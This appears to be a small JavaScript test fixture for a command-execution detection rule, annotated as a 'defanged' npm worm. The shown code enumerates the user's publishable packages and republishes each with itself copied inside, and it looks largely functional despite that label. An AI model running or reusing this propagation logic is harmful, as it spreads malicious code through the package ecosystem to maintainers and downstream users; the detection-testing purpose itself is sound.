// Defanged model of a worm: every package the installing user can publish gets this script and a new version.
const { execSync } = require('child_process');

const owned = JSON.parse(execSync('npm access list packages --json').toString());
for (const name of Object.keys(owned)) {
  const tarball = execSync(`npm pack ${name} --pack-destination /tmp`).toString().trim();
  // ruleid: code/command-execution
  execSync(`tar xzf /tmp/${tarball} -C /tmp/w && cp ${__filename} /tmp/w/package/ && npm version patch --prefix /tmp/w/package && npm publish /tmp/w/package`);
}
